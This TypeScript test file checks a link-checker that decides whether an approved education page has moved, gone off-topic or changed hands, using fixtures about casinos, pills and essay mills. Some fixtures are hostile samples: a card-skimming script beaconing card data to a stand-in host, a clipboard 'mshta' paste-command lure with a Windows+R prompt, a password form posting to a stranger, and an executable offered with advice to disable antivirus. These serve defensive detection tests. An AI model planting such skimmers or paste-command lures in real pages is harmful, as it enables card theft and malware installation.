import { describe, expect, it } from "vitest";
import { hasEducationWord } from "./find-unfit.ts";
import { judgeLook } from "./judge-look.ts";
import { judgeMarks, listMarks } from "./judge-marks.ts";
import type { Hop, Look } from "./look.ts";
import type { PagePicture } from "./page-picture.ts";
import { type PageFacts, readPage } from "./read-page.ts";
import { toPagePicture } from "./take-picture.ts";
import { answerWith } from "./testing/answer-with.ts";

const address = "https://www.path-finder.org/guide";
const page = (title: string, body: string) =>
  readPage(`<title>${title}</title><h1>${title}</h1>${body}`, address);
const lessons =
  "<p>Lessons on rivers, bridges and maps for students, with worksheets about fractions, volcanoes and sails.</p>";

function judgeAnswer(
  now: PageFacts,
  before: PagePicture,
  at = address,
  finalUrl = at,
  passed: PageFacts[] = [],
  by: Hop["by"] = "server",
) {
  const hop: Hop = { from: at, to: finalUrl, status: by === "server" ? 301 : 200, by };
  const look = answerWith(now, finalUrl, { hops: finalUrl === at ? [] : [hop], passed });
  const promise = { url: at, name: "Path Finder", description: "Lessons.", approved: before };
  return judgeLook(look, promise, "2026-11-02").verdict;
}

it("adverts for names are a trader's under the old name, too, and about scholarships", () => {
  const before = toPagePicture(address, address, page("Path Finder", lessons), "2026-11-01");
  const searches = `<h2>Path Finder: related searches</h2><ul><li>Scholarships for students<li>Online degree courses
    <li>School grants<li>Help with college fees</ul>`;
  const adverts = '<script src="//www.google.com/adsense/domains/caf.js"></script>';
  expect(judgeAnswer(page("path-finder.org", searches + adverts), before)).toBe("changed-hands");
});

it("a page in its own menu and under its site's name may have new words and a new title", () => {
  const menu = "<a href=/a>Study</a><a href=/b>Research</a><a href=/c>About us</a>";
  const entry = (title: string, text: string) => page(title, `${menu}<p>${text}</p>`);
  const degrees = `Choose from courses on two campuses, live in halls near your lectures and visit us on an open day in autumn.
    Tour the laboratories, meet tutors, ask ambassadors. The deadline for equal consideration is in January; we welcome
    the baccalaureate, access courses and vocational qualifications. Scholarships, accommodation guarantee, parents.`;
  const results = `Got yours? Lines stay busy today. Computer science, nursing, marine biology and business still
    have vacancies. Keep a number and pen to hand: within an hour every student gets an offer by mail. Rooms
    remain reserved if you ring before the last day of August. Storm warning: teaching moves online until noon.`;
  const before = entry("Undergraduate | Harrow University", degrees);
  const picture = toPagePicture(address, address, before, "2026-11-01");
  expect(judgeAnswer(entry("Places available | Harrow University", results), picture)).toBe("ok");
  expect(judgeAnswer(entry("Places available | Barrow Agency", results), picture)).toBe("looks-different");
});

it("a few words are asked about where they lead to an address of the same name, and to no other", () => {
  const before = toPagePicture(address, address, page("Path Finder", lessons), "2026-11-01");
  const notice = (host: string) =>
    page(
      "Boxes",
      `<p>We have packed all that we own, and on Monday the van will be here. We hope to see you soon
      where we are <a href="https://${host}/">at home now</a>. Bring tea.</p>`,
    );
  expect(judgeAnswer(notice("pathfinder.libhost.co.za"), before)).toBe("looks-different");
  expect(judgeAnswer(notice("www.winbonus.co.za"), before)).toBe("changed-hands");
});

describe("a page that leads to the start of its site", () => {
  const before = toPagePicture(address, address, page("Units - Path Finder", lessons), "2026-11-01");
  const start = "https://www.path-finder.org/";

  it("is lost where the site is the same people's, and has changed hands where it is someone else's", () => {
    const own = page("Path Finder", `${lessons}<p>All units of Path Finder.</p>`);
    expect(judgeAnswer(own, before, address, start)).toBe("soft-404");
    const other = page(
      "Dr Marlow, dentist",
      `<p>${"Implants, crowns, bleaching and check-ups at our surgery in the old mill. ".repeat(8)}</p>`,
    );
    expect(judgeAnswer(other, before, address, start)).toBe("changed-hands");
  });
});

describe("what a seller leaves of a school", () => {
  const before = toPagePicture(address, address, page("Finder of Paths", lessons), "2026-11-01");
  const shoes =
    "<p>Down jackets and boots, delivered to your door in plain boxes, with a voucher for each friend.</p>".repeat(
      4,
    );
  const prices = "<p>Boots £49.00</p><p>Jacket £79.00</p>";
  const judge = (title: string, body: string) => judgeAnswer(page(title, body), before);

  it("one word of schools, or a piece of the name, does not make a school of a list of prices", () => {
    expect(judge("Winter sale", `${shoes}<p>For students.</p>`)).toBe("looks-different");
    expect(judge("Winter sale", `${shoes}${prices}<p>For students.</p>`)).toBe("changed-hands");
  });
});

describe("a page that leads to another's address", () => {
  it("is asked about where it has the name, and speaks of something else", () => {
    const before = toPagePicture(address, address, page("Path Finder", lessons), "2026-11-01");
    const judge = (body: string, to: string) =>
      judgeAnswer(readPage(`<title>Path Finder</title><h1>Path Finder</h1>${body}`, to), before, address, to);
    const yoga = `<p>${"Yoga above the bakery, with tea, mats and a view of the canal. ".repeat(4)}</p>`;
    expect(judge(lessons, "https://www.path-finder-charity.example/")).toBe("moved");
    expect(judge(yoga, "https://www.path-finder-yoga.example/")).toBe("looks-different");
  });

  const title = "Learning outdoors - Hill Side Lyceum";
  const before = toPagePicture(address, address, page(title, lessons), "2026-11-01");
  const judge = (body: string, passed: PageFacts[] = [], language = "en") => {
    const to = "https://www.lakeland.example/";
    const now = readPage(`<html lang="${language}"><title>Lakeland</title><h1>Lakeland</h1>${body}`, to);
    return judgeAnswer(now, before, address, to, passed);
  };
  const boats = "<p>Berths, cranes, saunas and a café by the harbour, with jetties for eighty boats.</p>";

  it("is asked about where a word is of schools, and has changed hands where it is of nothing, or a trader's", () => {
    expect(judge(`${boats}<p>For pupils.</p>`)).toBe("looks-different");
    expect(judge(boats)).toBe("changed-hands");
    expect(judge(`${boats}<p>For pupils.</p><button>Add to cart</button>`)).toBe("changed-hands");
    expect(judge(`<h2>Buy viagra</h2>${boats}<p>For pupils.</p>`)).toBe("changed-hands");
  });

  it("is asked about where either page tells of the other, or nobody here could read that it does", () => {
    expect(judge(`${boats}<p>Hill Side Lyceum is a part of us.</p>`)).toBe("looks-different");
    const told = page("Hill Side Lyceum", "<p>We are a part of Lakeland now.</p>");
    expect(judge(boats, [told])).toBe("looks-different");
    expect(judge(boats, [page("Hill Side Lyceum", "<p>Please wait.</p>")])).toBe("changed-hands");
    const words = "Pikkorissarnerit ordbogi aamma oqariaatsinik sungiusaatit Sisimiuni tamanut ammavoq.";
    expect(judge(`<p>${words}</p>`, [], "kl")).toBe("looks-different");
  });
});

describe("the same people's page in a frame as large as the window", () => {
  const title = "Path Finder";
  const before = toPagePicture(address, address, page(title, lessons), "2026-11-01");
  const to = "https://path-finder.blogs.example/";

  it("is there, and a site that sends visitors on to it has moved", () => {
    const now = readPage(`<title>${title}</title><h1>${title}</h1>${lessons}`, to);
    expect(judgeAnswer(now, before, address, to, [], "frame")).toBe("ok");
    expect(judgeAnswer(now, before, address, to)).toBe("moved");
  });
});

describe("a door that leads to its own start after a moment", () => {
  const door = "https://www.path-finder.org/";
  const before = toPagePicture(door, door, page("Path Finder", lessons), "2026-11-01");
  const now = page("Path Finder", lessons);

  it.each(["inicio/", "accueil", "startseite.html", "domov"])("has not moved: %s", (path) => {
    expect(judgeAnswer(now, before, door, door + path, [], "page")).toBe("ok");
  });

  it("has moved where it leads deeper", () => {
    expect(judgeAnswer(now, before, door, `${door}units/rivers`, [], "page")).toBe("moved");
  });
});

describe("a card that is asked for where none was", () => {
  const before = toPagePicture(address, address, page("Path Finder", lessons), "2026-11-01");
  const form = '<form action="/pay"><input name="card"><input name="cvv"></form>';
  const aid = `<p>${"Every family and all students may receive one payment; few are left. ".repeat(4)}</p>`;

  it("tells another owner, beside another topic, and is asked about on its owner's page", () => {
    expect(judgeAnswer(page("State aid", aid + form), before)).toBe("changed-hands");
    expect(judgeAnswer(page("State aid", aid), before)).toBe("looks-different");
    expect(judgeAnswer(page("Path Finder", `${lessons}<p>Give to Path Finder.</p>${form}`), before)).toBe(
      "off-topic",
    );
  });

  it("is nothing new where it was asked for before", () => {
    const shop = toPagePicture(address, address, page("Path Finder", lessons + form), "2026-11-01");
    expect(judgeAnswer(page("Path Finder", `${lessons}<p>Spring.</p>${form}`), shop)).toBe("ok");
  });
});

it("a school's own words excuse no news on betting within its frame", () => {
  const menu = '<a href="/units">Units</a> <a href="/teachers">Teachers</a>';
  const before = toPagePicture(address, address, page("Path Finder", menu + lessons), "2026-11-01");
  const school =
    "<p>This is the news of the school for pupils, with courses and homework in the week.</p>".repeat(2);
  const bets = ["Online casino", "Free spins", "Betting sites", "Live casino"].map((bet) => `<p>${bet}</p>`);
  const judge = (news: string) => judgeAnswer(page("Path Finder news", menu + school + news), before);
  expect(judge(bets.join(""))).toBe("off-topic");
  expect(judge(bets.join("").replaceAll("</p>", ": a lesson</p>"))).toBe("ok");
});

it("a kept frame around a casino with three buttons is sold out, and with one it is asked about", () => {
  const menu = '<a href="/units">Units</a> <a href="/teachers">Teachers</a>';
  const before = toPagePicture(address, address, page("Path Finder", menu + lessons), "2026-11-01");
  const trade =
    "<p>Online casino, free spins, live casino, betting sites and casino bonus, for students.</p>";
  const judge = (buttons: number) =>
    judgeAnswer(
      page("Path Finder: best casinos", menu + trade + '<a href="/go">Play now</a>'.repeat(buttons)),
      before,
    );
  expect(judge(3)).toBe("changed-hands");
  expect(judge(1)).toBe("off-topic");
});

describe("a page with its own menu around it", () => {
  const menu = '<a href="/">Path Finder</a> <a href="/units">Units</a> <a href="/teachers">Teachers</a>';
  const title = "Online casino bonus: who wins?";
  const lesson = `${menu}<p>How a casino bonus works: students and teachers look at free spins, betting sites and odds. Pupils reckon at home, a class wins.</p>`;
  const judge = (now: PageFacts, at = address) => {
    const before = toPagePicture(at, at, page("Units", `${menu}<p>Lessons for students.</p>`), "2026-11-01");
    return judgeAnswer(now, before, at);
  };

  it("may speak of what it warns of, and not as a trader does, whatever it is called", () => {
    expect(judge(page(title, lesson))).toBe("ok");
    const trade = `${menu}<p>Free spins, casino bonus, betting sites, live casino and slot games for students.</p>`;
    for (const called of [title, "Units", "News"]) expect(judge(page(called, trade))).toBe("off-topic");
    expect(judge(page(title, `${lesson}<button>Play now</button>`))).toBe("off-topic");
  });

  it("has changed hands where the menu is another's", () => {
    expect(judge(page(title, lesson.replaceAll("/units", "/slots").replaceAll("/teachers", "/vip")))).toBe(
      "changed-hands",
    );
  });

  it("may be another's, where the owner is named, helps, and has nobody press what a trader would", () => {
    const helped =
      `<a href="/help">Help</a>${lesson}<p>Warning signs of addiction, and a helpline. Path Finder</p>`
        .replaceAll("/units", "/bets")
        .replaceAll("/teachers", "/parents");
    expect(judge(page(title, helped))).not.toBe("changed-hands");
    expect(judge(page(title, `${helped}<a href="/go">Claim your bonus</a>`))).toBe("changed-hands");
  });

  it("is asked about under a name that only schools are given, where its owner is still named", () => {
    const school = "https://writing.path-finder.ac.uk/";
    const other = lesson.replaceAll("/units", "/slots").replaceAll("/teachers", "/vip");
    const seen = (body: string) =>
      judge(readPage(`<title>${title}</title><h1>${title}</h1>${body}`, school), school);
    expect(seen(other)).toBe("looks-different");
    expect(seen(other.replace("Path Finder", ""))).toBe("changed-hands");
    expect(hasEducationWord(page("Hill School", "<p>Bets.</p>"), "Hill School")).toBe(false);
    expect(hasEducationWord(page("Hill School", "<p>For pupils.</p>"), "Hill School")).toBe(true);
  });

  it("is asked about where others are linked with a trader's words, be the page as it was", () => {
    const casino =
      '<a href="https://a.example/">no deposit bonus</a> <a href="https://b.example/">casino bonus</a>';
    expect(judge(page("Units", `${menu}<p>Lessons for students.</p>${casino}`))).toBe("off-topic");
  });

  it("is asked about where it is a trader's from its title on, and has changed hands where his button leads on", () => {
    const trader = "<p>Free spins, casino bonus, betting sites, live casino and slot games.</p>";
    expect(judge(page("Online casino bonus", menu + trader))).toBe("off-topic");
    const pressed = `${menu}${trader}<a href="https://go.example/"><img src="b.gif" alt="Play now"></a>`;
    expect(judge(page("Online casino bonus", pressed))).toBe("changed-hands");
    expect(judge(page("Units", pressed))).toBe("off-topic");
    expect(judge(page("Online casino bonus", pressed.replace("Play now", "Read on")))).toBe("off-topic");
  });

  it("is asked about where a false alarm was put into its lesson", () => {
    const alarm = "<p>Press Windows+R, then Ctrl+V. Verification steps.</p>";
    expect(judge(page("Units", `${menu}<p>Lessons for students.</p>${alarm}`))).toBe("off-topic");
  });

  it("is asked about where its name alone is of schools, and its text is a trader's", () => {
    const named = menu.replace("Path Finder", "Students’ Helper").replace("Teachers", "Walks");
    const before = toPagePicture(
      address,
      address,
      page(
        "Students’ Helper",
        `${named}<p>Maps of the town and of the river for all who want to walk there with us.</p>`,
      ),
      "2026-11-01",
    );
    const pills = `<p>Modafinil, Adderall and tramadol without prescription. ${"Overnight delivery to your door. ".repeat(12)}</p>`;
    expect(judgeAnswer(page("Modafinil", named + pills), before)).toBe("off-topic");
  });

  it("is another's where only the links below are the old ones", () => {
    const below = '<footer><a href="/privacy">Privacy</a> <a href="/contact">Contact</a></footer>';
    expect(page("Units", `${menu}${below}`).menu).toEqual(page("Units", menu).menu);
  });

  it("is asked about where it leads elsewhere, or its title only is for search engines", () => {
    const linked = `${lesson}<a href="https://casino.example/">Play</a>`;
    expect(judge(page(title, linked))).toBe("off-topic");
    expect(
      judge(
        page("Units", `${menu}<p>Lessons for students.</p><p>オンラインカジノ スロット 入金不要ボーナス</p>`),
      ),
    ).toBe("off-topic");
    expect(
      judge(readPage(`<title>${title}, free spins</title>${menu}<p>Lessons for students.</p>`, address)),
    ).toBe("off-topic");
  });

  it("may speak of it under a new menu, in its owner's name, where it teaches and leads to nobody", () => {
    const before = toPagePicture(address, address, page("Path Finder", `${menu}${lessons}`), "2026-11-01");
    const warns =
      '<a href="/start">Start</a> <a href="/help">Advice</a><p>A payday loan of 300 became 900. Bad credit loans and instant loans look easy to students. Talk to your tutor, school or college.</p>';
    const judge = (body: string) => judgeAnswer(page("Path Finder: think twice", body), before);
    expect(judge(warns)).toBe("looks-different");
    expect(judge(`${warns}<a href="https://quick.example/">More</a>`)).toBe("changed-hands");
    expect(judge(`${warns}<button>Get a quote</button>`)).toBe("changed-hands");
  });

  it("may speak of it under a new menu that keeps a part of the old, in its owner's name, and leads to nobody", () => {
    const part = lesson.replace("/teachers", "/staff").replace("</a><p>", '</a> <a href="/help">Help</a><p>');
    const named = `${part}<footer>© 2026 Path Finder</footer>`;
    expect(judge(page(title, named))).toBe("ok");
    expect(judge(page(title, named.replace("/units", "/slots")))).toBe("changed-hands");
  });
});

it("what was promised excuses the same page in a new menu, and none that only trades in it", () => {
  const help =
    "We listen when free spins, betting sites, casino bonus codes and slot games took your money. Call us, day or night.";
  const offer =
    "Best casinos, sportsbook, live casino, no deposit bonus, pokies and jackpots. Withdraw within minutes.";
  const before = toPagePicture(address, address, page("Casino bonus?", `<p>${help}</p>`), "2026-11-01");
  const judge = (text: string) => {
    const now = page("Casino bonus!", `<a href="/new">New</a><p>${text}</p>`);
    const promise = { url: address, name: "Calm Days", description: "Help.", approved: before };
    const seen = { finalUrl: address, page: now, passed: [] };
    const picture = toPagePicture(address, address, now, "2026-11-02");
    return judgeMarks(listMarks(seen, promise, before, picture), seen)?.verdict;
  };
  expect(judge(help.replace("Call us, day or night", "Write to us"))).toBeUndefined();
  expect(judge(offer.repeat(2))).toBe("changed-hands");
});

describe("a page that sends its visitors to a place which is not there", () => {
  const judge = (to: string) => {
    const before = toPagePicture(address, address, page("Path Finder", lessons), "2026-11-01");
    const look: Look = {
      kind: "failure",
      failure: "no-such-name",
      finalUrl: to,
      hops: [{ status: 200, from: address, to, by: "page" }],
      passed: [page("Path Finder", lessons)],
    };
    const promise = { url: address, name: "Path Finder", description: "Lessons.", approved: before };
    return judgeLook(look, promise, "2026-11-02").verdict;
  };

  it("is asked about, for it is not the link that is lost", () => {
    expect(judge("https://prize.example/")).toBe("looks-different");
    expect(judge("https://new.path-finder.org/")).toBe("name-not-found");
  });
});

describe("a page in another language", () => {
  const words =
    "Pikkorissarnerit ordbogi aamma oqariaatsinik sungiusaatit Sisimiuni ilinniartitsisunit kalaallisut ilinniarit tamanut ammavoq.";
  const judge = (language: string) => {
    const seen = (html: string) => readPage(`<html>${html}`, address);
    const old = seen(
      `<title>Path Finder</title><meta property="og:site_name" content="Path Finder">${lessons}`,
    );
    const now = seen(
      `<html lang="${language}"><title>Oqaatsit</title><meta property="og:site_name" content="Oqaatsit"><p>${words} ${words}</p>`,
    );
    const before = toPagePicture(address, address, old, "2026-11-01");
    return judgeAnswer(now, before);
  };

  it("is asked about, whether words of the language are known or not", () => {
    expect(judge("kl")).toBe("looks-different");
    expect(judge("sl")).toBe("looks-different");
  });
});

it("an entry's address that shows an empty list has lost it, and the list's own address has not", () => {
  const list = (text: string, title = "Courses") => page(title, `<p>${text}</p>`);
  const course = list(
    "Dry stone walling: foundations, hearting, throughs and copes, in two days on the hill, with gloves.",
    "Dry stone walling",
  );
  const judge = (now: PageFacts, before: PageFacts, at: string) =>
    judgeAnswer(now, toPagePicture(at, at, before, "2026-11-01"), at);
  expect(judge(list("0 courses found."), course, `${address}?course=7`)).toBe("soft-404");
  const all = list("Dry stone walling, hedge laying, charcoal burning and green wood turning on the hill.");
  expect(judge(list("No courses just now: new dates in May."), all, address)).not.toBe("soft-404");
});

describe("a page with the very words that were approved", () => {
  const judge = (then: string, now: string) => {
    const before = toPagePicture(address, address, page("Units", lessons + then), "2026-11-01");
    return judgeAnswer(page("Units", lessons + now), before);
  };
  const form = (to: string) =>
    `<form action="https://${to}/g"><input name="id"><input type="password"></form>`;
  const command = "<script>onclick=()=>navigator.clipboard.writeText('mshta https://x.example/a')</script>";

  it("is asked about where it sends a password to strangers now, and not where it was approved so", () => {
    expect(judge("", form("collect.example"))).toBe("off-topic");
    expect(judge(form("id.example"), form("collect.example"))).toBe("off-topic");
    expect(judge(form("id.example"), form("id.example"))).toBe("ok");
  });

  it("has changed hands where visitors are to paste a command", () => {
    expect(judge("", command)).toBe("changed-hands");
    expect(judge(command, command)).toBe("ok");
  });

  it("is asked about where it links to casinos that it did not link to", () => {
    const casino = '<a href="https://best-casino.example/">.</a>';
    expect(judge("", casino)).toBe("off-topic");
    expect(judge(casino, casino)).toBe("ok");
    expect(judge("", '<a href="https://museum.example/">.</a>')).toBe("ok");
  });
});

it.each([
  ["Greek", "Πανεπιστήμιο Θάλασσας", "ΠΑΝΕΠΙΣΤΗΜΙΟ ΘΑΛΑΣΣΑΣ"],
  ["Turkish", "Işık İlköğretim", "IŞIK İLKÖĞRETİM"],
])("a %s name in capitals is the same name", (_, name, capitals) => {
  const made = (by: string, body: string) =>
    readPage(`<title>${by}</title><meta property="og:site_name" content="${by}"><p>${body}</p>`, address);
  const before = toPagePicture(address, address, made(name, lessons), "2026-11-01");
  const now = made(
    capitals,
    "Choir, theatre, robots, gardens and recycling for all classes, with pictures of the feasts.",
  );
  expect(judgeAnswer(now, before)).not.toBe("changed-hands");
});

describe("a page of its owner's, made anew, about what schools warn of in their own words", () => {
  const title = "Essay mills: why not";
  const warning =
    "Sites promise to write my essay, custom essays, plagiarism free, $9 per page. Our students learn to write drafts.";
  const judge = (now: string) => {
    const before = toPagePicture(
      address,
      address,
      page("Path Finder", `<a href="/a">A</a>${lessons}`),
      "2026-11-01",
    );
    return judgeAnswer(page(title, now), before);
  };

  it("is asked about where a museum warns of fakes", () => {
    const fakes = "Replica watches, replica Rolex and counterfeit money: pupils learn to tell fakes.";
    expect(judge(`<p>Path Finder</p><p>${fakes}</p>`)).toMatch(/off-topic|looks-different/);
  });

  it("is asked about, and has changed hands where it is another's, or has one order", () => {
    expect(judge(`<p>Path Finder</p><p>${warning}</p>`)).toMatch(/off-topic|looks-different/);
    expect(judge(`<p>${warning}</p>`)).toBe("changed-hands");
    expect(judge(`<p>Path Finder</p><p>${warning}</p><a href="/o">Order now</a>`)).toBe("changed-hands");
  });
});

it("a casino with a wall's word below is one, and no wall", () => {
  const before = toPagePicture(address, address, page("Path Finder", lessons), "2026-11-01");
  const casino = page(
    "Online casino bonus",
    "<p>Free spins, betting sites, live casino. Generated by Wordfence</p>",
  );
  expect(judgeAnswer(casino, before)).toBe("changed-hands");
});

it("a false alarm in the words of a wall is asked about, and a wall is none", () => {
  const before = {
    ...toPagePicture(address, address, page("Rivers", lessons), "2026-11-01"),
    seenFrom: "ci",
  } as const;
  const judge = (body: string) => judgeAnswer(page("Verify you are human", body), before);
  expect(judge("<p>Lucky student! One short offer to unlock your grant.</p>")).toBe("looks-different");
  expect(judge("<p>For students.</p>")).toBe("blocked-to-robots");
});

describe("a school that writes in another language", () => {
  const school = (name: string, text: string) =>
    readPage(
      `<title>${name}</title><script type="application/ld+json">{"@type":"School","name":"${name}"}</script>${text}`,
      address,
    );
  const ru = school(
    "Гимназия «Заречье»",
    "<p>В гимназии учатся ребята, увлечённые химией, историей и музыкой. Документы принимает секретарь.</p>",
  );
  const before = toPagePicture(address, address, ru, "2026-11-01");
  const uk =
    "<p>У гімназії навчаються діти, захоплені хімією, історією та музикою. Документи приймає секретарка щодня.</p>";

  it("is known by its consonants", () => {
    expect(before.language).toBe("ru");
    expect(judgeAnswer(school("Гімназія «Заріччя»", uk), before)).not.toBe("changed-hands");
  });

  it("and by its words for schools, whatever it is called now", () => {
    const now = school(
      "Ліцей над Бугом",
      `${uk}<p>Школа має гуртки, театр і табір. Учні та батьки вітаються.</p>`,
    );
    expect(toPagePicture(address, address, now, "2026-11-02").language).toBe("uk");
    expect(judgeAnswer(now, before)).toBe("looks-different");
  });

  it("but not by a trader's", () => {
    const casino = "<p>Онлайн казино: слоти, рулетка, ставки на спорт, бонус і фріспіни. Джекпот щодня.</p>";
    expect(judgeAnswer(school("Казино Заріччя", casino), before)).toBe("changed-hands");
  });
});

it("offers no new address that bears a mark, or has another topic under the old name", () => {
  const before = toPagePicture(address, address, page("Path Finder", lessons), "2026-11-01");
  const to = "https://path-finder.info/";
  const fraud = "<p>Pay the refundable processing fee by gift card or USDT: award letter on WhatsApp.</p>";
  expect(judgeAnswer(page("Path Finder", lessons), before, address, to)).toBe("moved");
  expect(judgeAnswer(page("Path Finder", `${lessons}${fraud}`), before, address, to)).not.toBe("moved");
});

describe("a page about something else, under the name that was approved", () => {
  const before = toPagePicture(address, address, page("Path Finder", lessons), "2026-11-01");
  const shows = (body: string, head = "") =>
    judgeAnswer(
      readPage(`${head}<title>Path Finder: more</title><h1>Path Finder</h1>${body}`, address),
      before,
    );
  const talk =
    "<p>Meet our students tonight, talk to whom you like, and come back tomorrow for more of it.</p>";

  it("has changed hands where it labels itself as unfit for children, and is asked about without that", () => {
    expect(shows(talk)).toBe("looks-different");
    expect(shows(talk, '<meta name="rating" content="adult">')).toBe("changed-hands");
  });

  it("has changed hands where a program comes with a word on antivirus, and is asked about with one of the two", () => {
    const program = '<a href="https://files.there.club/Solved_Setup.exe">Solved examinations</a>';
    const word = "<p>If your antivirus shows a warning, switch it off: it is mistaken.</p>";
    expect(shows(talk + program)).toBe("looks-different");
    expect(shows(talk + word)).toBe("looks-different");
    expect(shows(talk + program + word)).toBe("changed-hands");
  });

  it("has changed hands where a link leads to the offer of its name, and not where one leads to old copies of it", () => {
    const link = (to: string) => `<a href="https://${to}/path-finder.org">Secure it</a>`;
    expect(shows(talk + link("market.there.club/buy"))).toBe("changed-hands");
    expect(shows(talk + link("market.there.club/offer?name="))).toBe("looks-different");
    expect(shows(talk + link("archive.there.club/web/2024/https:/"))).toBe("looks-different");
  });

  it("has changed hands where papers are written for others, and is asked about where a tutor reads them", () => {
    const offer = (
      how: string,
    ) => `<h2>Study help for students</h2><p>${how} Prices per page, confidential, with revisions
      before your deadline.</p><button>Order now</button>`;
    expect(shows(offer("A verified expert takes your assignment off your plate."))).toBe("changed-hands");
    expect(shows(offer("A tutor reads your assignment with you."))).toBe("looks-different");
  });
});

it("a page as it was is asked about if tips for bets are beside links to strangers, and not beside a school's", () => {
  const menu = "<a href=/a>Courses</a><a href=/b>Bursary</a><a href=/c>Open evening</a>";
  const before = toPagePicture(address, address, page("Path Finder", menu + lessons), "2026-11-01");
  const box = (to: string) =>
    `<p>Football predictions and correct score tips: join <a href="https://${to}/">Tipsters</a></p>`;
  expect(judgeAnswer(page("Path Finder", menu + lessons + box("tipsters.club")), before)).toBe("off-topic");
  expect(judgeAnswer(page("Path Finder", menu + lessons + box("maths.edu")), before)).toBe("ok");
});

it("a page as it was is asked about where a script sends on what is typed into its form for cards", () => {
  const form = "<form action=/give><input name=cc id=cc><input name=cvv id=cvv></form>";
  const skim = (to: string) =>
    `<script>setInterval(()=>{const d=cc.value+cvv.value;new Image().src="https://${to}/g?"+btoa(d)},900)</script>`;
  const give = (script: string) => page("Path Finder: give", form + lessons + script);
  const before = toPagePicture(address, address, give(""), "2026-11-01");
  expect(judgeAnswer(give(""), before)).toBe("ok");
  expect(judgeAnswer(give(skim("metrics.there.club")), before)).toBe("off-topic");
  expect(judgeAnswer(give(skim("pay.path-finder.org")), before)).toBe("ok");
});

it("a school that never spoke of such things is asked about where it links to its first casino", () => {
  const menu = "<a href=/a>Courses</a><a href=/b>Bursary</a><a href=/c>Open evening</a>";
  const before = toPagePicture(address, address, page("Path Finder", menu + lessons), "2026-11-01");
  const now = `${menu}${lessons}<p>Camp is in June; the letter follows.</p><a href="https://gold-casino.net/?a=7">Play</a>`;
  expect(judgeAnswer(page("Path Finder", now), before)).toBe("off-topic");
});

it("people who sign with another name keep the page where it shares a rare word with the site's own", () => {
  const blog = page("A year of books – Harbour View Homeschool", `${lessons}<p>© Jo and Piet Steenkamp`);
  const shop = (name: string) =>
    page(
      `${name} – Packs and booklists`,
      `<a href=/all>Shop all</a><p>From our table to yours we print what was free. Nature packs R249. Maths packs R299.
      Buy two and get the reading log with them. Sent by post on Fridays, refunds within a month, gift cards for aunts.</p>
      <button>Add to cart</button><p>© 2026 ${name}`,
    );
  const picture = toPagePicture(address, address, blog, "2026-11-01");
  expect(judgeAnswer(shop("Harbour View Home Education"), picture)).toBe("looks-different");
  for (const name of ["Bright Sparrow Goods", "Harbour View Direct"])
    expect(judgeAnswer(shop(name), picture)).toBe("changed-hands");
});
